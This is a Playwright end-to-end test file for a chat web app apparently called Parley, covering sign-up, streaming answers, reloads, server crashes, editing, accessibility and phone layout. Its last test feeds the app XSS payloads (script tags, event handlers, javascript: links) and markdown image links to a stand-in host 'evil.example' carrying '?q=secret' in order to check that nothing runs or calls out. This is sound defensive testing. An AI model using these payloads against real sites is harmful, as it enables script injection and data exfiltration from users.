import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import type { Browser } from 'playwright-core'
import {
  answers,
  assertAccessible,
  composer,
  createAccount,
  openBrowser,
  phone,
  say,
  untilAnswered,
  visit,
} from './browser.ts'
import { Product } from './product.ts'

describe('a person and Parley', () => {
  let product: Product
  let browser: Browser
  let people = 0
  before(async () => {
    product = await Product.start()
    browser = await openBrowser()
  })
  after(async () => {
    await browser.close()
    await product.close()
  })

  /** Somebody new, signed in; the very first is the owner. */
  async function newcomer(viewport?: typeof phone) {
    const page = await visit(browser, product.url, viewport)
    const create = page.getByRole('button', { name: 'Create an account' })
    await page.getByRole('heading', { level: 1 }).waitFor()
    if (await create.isVisible()) await create.click()
    await createAccount(page, `Person${++people}`)
    return page
  }

  test('the first visitor becomes the owner, asks, and reads the answer as it is written', async () => {
    const page = await visit(browser, product.url)
    await page.getByRole('heading', { name: 'Welcome to your Parley' }).waitFor()
    await assertAccessible(page, 'set-up')
    await createAccount(page, `Person${++people}`)
    await assertAccessible(page, 'new conversation')
    await say(page, '/lab speed=40 How do tides work?')
    await page.locator('article[aria-busy="true"]', { hasText: 'You asked' }).waitFor()
    const answer = await untilAnswered(page)
    assert.match(answer, /You asked: How do tides work\?/)
    await page.getByRole('link', { name: /How do tides work/ }).waitFor()
    await assertAccessible(page, 'conversation')
    await page.context().close()
  })

  test('what is wrong at sign-up is said at its field and nothing typed is lost', async () => {
    const page = await visit(browser, product.url)
    await page.getByRole('button', { name: 'Create an account' }).click()
    await page.getByLabel('E-mail address').fill('kept@example.org')
    await page.getByLabel('Username').fill('kept')
    await page.getByLabel('Password').fill('short')
    await page.getByRole('button', { name: 'Create account' }).click()
    await page.getByText('Use at least 10 characters.').waitFor()
    assert.equal(await page.getByLabel('Password').getAttribute('aria-invalid'), 'true')
    assert.equal(await page.getByLabel('E-mail address').inputValue(), 'kept@example.org')
    await assertAccessible(page, 'sign-up with an error')
    await page.context().close()
  })

  test('an answer can be stopped, and what was written stays', async () => {
    const page = await newcomer()
    await say(page, '/lab speed=20 tokens=400 Tell me everything')
    await page.locator('article[aria-busy="true"]').waitFor()
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByText('Stopped.').waitFor()
    const kept = await untilAnswered(page)
    await page.reload()
    await page.getByText('Stopped.').waitFor()
    assert.equal(await untilAnswered(page), kept)
    await page.context().close()
  })

  test('a reload in the middle of an answer loses nothing and goes on', async () => {
    const page = await newcomer()
    await say(page, '/lab speed=60 tokens=240 Count for me')
    await page
      .locator('article[aria-busy="true"]')
      .filter({ hasText: /\w{20,}|\w+ \w+ \w+/ })
      .waitFor()
    await page.reload()
    const afterwards = await untilAnswered(page)
    await page.reload()
    assert.equal(await untilAnswered(page), afterwards)
    await page.context().close()
  })

  test('two tabs of one person show the same answer being written', async () => {
    const first = await newcomer()
    await say(first, '/lab speed=300 Hello')
    await untilAnswered(first)
    const second = await first.context().newPage()
    await second.goto(first.url())
    await answers(second).first().waitFor()
    await say(first, '/lab speed=30 And now?')
    await second.locator('article[aria-busy="true"]').waitFor()
    const [left, right] = await Promise.all([untilAnswered(first), untilAnswered(second)])
    assert.equal(left, right)
    await first.context().close()
  })

  test('a server killed in mid-answer loses no word, says so, and goes on when asked', async () => {
    const page = await newcomer()
    await say(page, '/lab speed=15 tokens=300 A long story please')
    const writing = page.locator('article[aria-busy="true"]')
    await writing.filter({ hasText: /\w+ \w+ \w+ \w+ \w+/ }).waitFor()
    const seen = (await writing.innerText()).trim()
    await product.kill()
    await page.getByText('No connection. Trying again…').waitFor()
    await product.start()
    await page.getByText('This answer was cut off. What you see is kept.').waitFor()
    const kept = await answers(page).last().innerText()
    assert.ok(kept.startsWith(seen.slice(0, 200)), `${seen}\n---\n${kept}`)
    await page.getByRole('button', { name: 'Continue' }).click()
    await page.getByText('This answer was cut off').waitFor({ state: 'detached' })
    assert.ok((await untilAnswered(page)).startsWith(seen.slice(0, 200)))
    await page.context().close()
  })

  test('a question can be worded anew, and both versions can be seen', async () => {
    const page = await newcomer()
    await say(page, '/lab speed=0 First wording')
    await untilAnswered(page)
    await page.getByRole('article', { name: 'You' }).hover()
    await page.getByRole('button', { name: 'Edit' }).click()
    await page.getByRole('textbox', { name: 'Edit' }).fill('/lab speed=0 Second wording')
    await page.getByRole('button', { name: 'Send again' }).click()
    await page.getByText('You asked: Second wording').waitFor()
    await page.getByRole('article', { name: 'You' }).hover()
    await page.getByRole('button', { name: 'Previous version' }).first().click()
    await page.getByText('You asked: First wording').waitFor()
    await page.context().close()
  })

  test('conversations can be renamed, pinned and deleted', async () => {
    const page = await newcomer()
    await say(page, '/lab speed=0 Something to keep')
    await untilAnswered(page)
    const actions = page.getByRole('button', { name: /Actions for/ })
    await actions.click()
    await assertAccessible(page, 'actions of a conversation')
    await page.getByRole('menuitem', { name: 'Rename' }).click()
    await page.getByLabel('Title').fill('Tides')
    await page.getByRole('button', { name: 'Save' }).click()
    await page.getByRole('heading', { name: 'Tides' }).waitFor()
    await actions.click()
    await page.getByRole('menuitem', { name: 'Delete' }).click()
    await assertAccessible(page, 'asked before deleting')
    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click()
    await page.getByText('Your conversations will be listed here.').waitFor()
    await page.context().close()
  })

  test('on a phone everything is there, and nothing is wider than the screen', async () => {
    const page = await newcomer(phone)
    await say(page, '/lab speed=0 On the way')
    await untilAnswered(page)
    await assertAccessible(page, 'conversation on a phone')
    const width = await page.evaluate(() => document.documentElement.scrollWidth)
    assert.ok(width <= phone.width, `${width} px`)
    await page.getByRole('button', { name: 'Show conversations' }).click()
    await page
      .getByRole('navigation')
      .getByRole('link', { name: /On the way/ })
      .waitFor()
    await assertAccessible(page, 'conversations on a phone')
    await page.context().close()
  })

  test('with the keyboard alone one can ask, stop, and sign out', async () => {
    const page = await newcomer()
    assert.equal(await composer(page).evaluate((field) => field === document.activeElement), true)
    await page.keyboard.type('/lab speed=20 tokens=300 By keyboard')
    await page.keyboard.press('Enter')
    await page.locator('article[aria-busy="true"]').waitFor()
    await page.getByRole('button', { name: 'Stop' }).focus()
    await page.keyboard.press('Enter')
    await page.getByText('Stopped.').waitFor()
    await page.getByRole('button', { name: /^Person/ }).focus()
    await page.keyboard.press('Enter')
    await page.keyboard.press('ArrowUp')
    await page.keyboard.press('Enter')
    await page.getByRole('heading', { name: 'Welcome back' }).waitFor()
    await page.context().close()
  })

  test('no text a model writes runs a script or asks another site for anything', async () => {
    const page = await newcomer()
    const foreign: string[] = []
    page.on('request', (request) => {
      if (new URL(request.url()).host !== product.url.host) foreign.push(request.url())
    })
    const hostile = [
      '<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">',
      '![chat](https://evil.example/?q=secret) ![ref][r] <https://evil.example/auto>',
      '[click](javascript:window.hacked=1) [data](data:text/html,<script>1</script>)',
      '[r]: https://evil.example/ref.png',
      '<svg onload="window.hacked = 1"></svg><iframe src="https://evil.example"></iframe>',
      '<style>body { display: none }</style><a href="vbscript:x">y</a>',
    ].join('\n\n')
    await say(page, `/lab speed=0 ${hostile}`)
    await untilAnswered(page)
    for (const link of await page.getByRole('log').getByRole('link').all()) {
      assert.match((await link.getAttribute('href')) ?? '', /^https?:/)
    }
    assert.equal(await page.evaluate(() => 'hacked' in window), false)
    assert.equal(await page.getByRole('log').locator('img, svg:not([aria-hidden]), iframe, style, script').count(), 0)
    assert.deepEqual(foreign, [])
    await page.context().close()
  })
})
